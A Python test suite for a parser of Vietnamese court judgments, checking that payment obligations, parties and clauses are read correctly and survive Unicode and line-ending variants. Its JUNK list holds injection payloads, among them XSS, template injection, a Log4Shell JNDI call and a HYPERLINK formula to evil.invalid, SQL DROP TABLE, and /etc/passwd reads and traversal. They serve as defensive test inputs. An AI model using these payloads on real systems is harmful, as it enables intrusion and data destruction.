"""Papers that are no judgment, broken ones and hostile ones: no crash, a doubt, and nothing that runs or is made up."""

from __future__ import annotations

import json
import unicodedata

import pytest
from made import judgment
from material import HERE, hard_texts, pages_of, reading_of

from thads.engine.judgment.running import run_together
from thads.engine.judgment.schema import Reading

TEXTS = dict(hard_texts())
EXPECTED = {slug: json.loads((HERE / "hard" / f"{slug}.expected.json").read_text("utf8")) for slug in TEXTS}
NO_JUDGMENT = [slug for slug, expected in EXPECTED.items() if not expected["obligations"]]
HOSTILE = [slug for slug in TEXTS if "doc-hai" in slug]


def read_as_expected(slug: str) -> list[str]:
    """What is missing among the expected rows of the paper."""
    rows = reading_of(TEXTS[slug]).obligations
    return [str(want) for want in EXPECTED[slug]["obligations"] if not any(fits(want, row) for row in rows)]


def fits(want: dict, row) -> bool:
    return (
        row.kind == want["kind"]
        and row.amount == want["amount"]
        and want.get("debtors") in (None, row.debtors)
        and want.get("creditors") in (None, row.creditors)
        and row.liability == want.get("liability", row.liability)
        and row.already_performed == want.get("already_performed", row.already_performed)
    )


@pytest.mark.parametrize("slug", TEXTS)
def test_the_number_is_read_or_none(slug):
    assert reading_of(TEXTS[slug]).document.number in (EXPECTED[slug]["number"], "09/2026/HĐVT")


@pytest.mark.parametrize("slug", NO_JUDGMENT)
def test_what_orders_nothing_gives_no_obligation_and_a_doubt(slug):
    reading = reading_of(TEXTS[slug])
    assert reading.obligations == [] and reading.doubts


@pytest.mark.parametrize(
    "slug",
    [slug for slug in TEXTS if slug not in NO_JUDGMENT],
)
def test_a_hard_paper_is_read_as_a_person_reads_it(slug):
    assert read_as_expected(slug) == []


@pytest.mark.parametrize("slug", TEXTS)
def test_no_wrong_sum_is_called_checked_in_a_hard_paper(slug):
    right = {want["amount"] for want in EXPECTED[slug]["obligations"]}
    assert {row.amount for row in reading_of(TEXTS[slug]).obligations if row.amount_checked} <= right


def printed(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("slug", HOSTILE)
def test_hostile_text_is_kept_as_text(slug):
    """Every clause is a stretch of the paper letter for letter; nothing was escaped, evaluated or left out."""
    pages = pages_of(TEXTS[slug])
    paper = printed(run_together(pages.pages).text)
    reading = reading_of(TEXTS[slug])
    assert reading.clauses and all(printed(clause.text) in paper for clause in reading.clauses)
    assert all(printed(party.name) in paper for party in reading.parties if party.kind == "organisation")


JUNK = [
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "{% for x in y %}{{ x }}{% endfor %}",
    '=HYPERLINK("http://evil.invalid","x")',
    "${jndi:ldap://evil.invalid}",
    '#eval("1+1")',
    "$x$ \\input{/etc/passwd}",
    "%s%n%d",
    "'; DROP TABLE vu_viec; --",
    "../../etc/passwd",
]


@pytest.mark.parametrize("junk", JUNK)
def test_hostile_text_in_an_order_survives_in_its_clause_and_changes_nothing(junk):
    order = f"1. Buộc ông Phạm Ngọc Hải trả cho bà Trần Thị Mận 34.000.000 đồng (Ba mươi bốn triệu đồng) {junk}."
    reading = reading_of(judgment(order))
    (row,) = reading.obligations
    assert (row.kind, row.amount, row.debtors, row.creditors) == (
        "pay_money",
        34_000_000,
        ["Phạm Ngọc Hải"],
        ["Trần Thị Mận"],
    )
    assert junk in "".join(clause.text for clause in reading.clauses)
    assert junk in "".join(clause["text"] for clause in json.loads(json.dumps(reading.to_dict()))["clauses"])


@pytest.mark.parametrize("junk", JUNK)
def test_hostile_text_in_an_address_stays_there(junk):
    parties = [
        f"Nguyên đơn: Bà Trần Thị Mận, sinh năm 1970; địa chỉ: xã Phú Nghĩa {junk}.",
        "Bị đơn: Ông Phạm Ngọc Hải, sinh năm 1968.",
    ]
    reading = reading_of(judgment("1. Buộc ông Hải trả cho bà Mận 34.000.000 đồng.", parties=parties))
    assert [party.name for party in reading.parties] == ["Trần Thị Mận", "Phạm Ngọc Hải"]
    assert "49" not in (reading.parties[0].address or "")


def test_decomposed_letters_give_the_same_reading_as_composed_ones():
    text = judgment("1. Buộc ông Phạm Ngọc Hải trả cho bà Trần Thị Mận 34.000.000 đồng (Ba mươi bốn triệu đồng).")
    assert same(unicodedata.normalize("NFD", text), text)


def test_old_letters_for_u_and_d_give_the_same_reading():
    text = judgment("1. Buộc ông Đới Văn Hưởng trả cho bà Trần Thị Mận 34.000.000 đồng (Ba mươi bốn triệu đồng).")
    assert same(text.replace("ư", "ƣ").replace("Ư", "Ƣ").replace("Đ", "Ð"), text)


def test_windows_line_ends_give_the_same_reading():
    text = judgment("1. Buộc ông Phạm Ngọc Hải trả cho bà Trần Thị Mận 34.000.000 đồng (Ba mươi bốn triệu đồng).")
    assert same(text.replace("\n", "\r\n"), text)


def same(one: str, other: str) -> bool:
    def content(text: str) -> dict:
        reading: Reading = reading_of(text)
        return reading.to_dict() | {"source": None}

    return content(one) == content(other)
